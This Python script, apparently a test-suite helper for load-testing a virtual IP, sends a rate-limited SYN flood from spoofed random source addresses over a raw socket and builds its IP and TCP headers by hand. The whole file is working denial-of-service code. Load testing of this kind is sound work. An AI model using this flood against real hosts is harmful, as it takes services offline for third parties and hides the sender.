#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""A SYN flood from many spoofed sources, with a raw socket (no scapy:
its import alone takes 10-20 s under TCG).

    hybrid_synflood.py VIP PORT SRC_PREFIX RATE CONTROL STATUS

Sends TCP SYNs to VIP:PORT, each from a random address of SRC_PREFIX (an
IPv4 prefix, e.g. 10.200.0.0/16) and a random port, RATE per second, while
CONTROL holds "run"; stops when it holds "stop" or on SIGTERM. STATUS is
rewritten every 200 ms as JSON: {"sent": N}.
"""
import ipaddress
import json
import os
import random
import signal
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff


def syn(src, dst, sport, dport, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02,
                      65535, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp),
                     random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def write_status(status, sent):
    try:
        with open(status + ".tmp", "w") as f:
            json.dump({"sent": sent}, f)
        os.replace(status + ".tmp", status)
    except OSError:
        pass    # the test is over and has removed the directory


def main():
    vip, port, prefix, rate = sys.argv[1], int(sys.argv[2]), sys.argv[3], \
        float(sys.argv[4])
    control, status = sys.argv[5], sys.argv[6]
    net = ipaddress.ip_network(prefix)
    dst = socket.inet_aton(vip)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    stop = False

    def halt(*_):
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, halt)
    sent = 0
    due = 0.0
    last = t_status = t_ctl = time.monotonic()
    word = "run"
    while not stop:
        now = time.monotonic()
        if now - t_ctl >= 0.05:
            t_ctl = now
            try:
                with open(control) as f:
                    word = f.read().strip()
            except OSError:
                pass
            stop = word == "stop"
        if now - t_status >= 0.2:
            t_status = now
            write_status(status, sent)
        # At most 100 ms' worth at once: no catching up in bursts.
        due = min(due + (now - last) * rate, rate / 10 + 1)
        last = now
        if word != "run":
            due = 0.0
        while due >= 1:
            src = (net.network_address +
                   random.randrange(1, net.num_addresses - 1)).packed
            pkt = syn(src, dst, random.randrange(1024, 65536), port,
                      random.getrandbits(32))
            try:
                s.sendto(pkt, (vip, 0))
                sent += 1
            except OSError:  # ENOBUFS: the queue is full
                break
            due -= 1
        time.sleep(0.005)
    write_status(status, sent)


main()
